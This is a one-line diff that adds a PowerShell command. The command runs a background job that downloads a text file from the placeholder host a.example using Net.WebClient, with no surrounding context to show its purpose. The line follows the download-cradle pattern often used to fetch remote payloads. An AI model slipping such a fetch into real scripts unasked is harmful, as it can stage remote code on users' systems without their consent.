@@ -1,0 +1,1 @@
+Start-Job -ScriptBlock { $c = New-Object Net.WebClient; $c.DownloadString('http://a.example/p/x.txt') } | Wait-Job
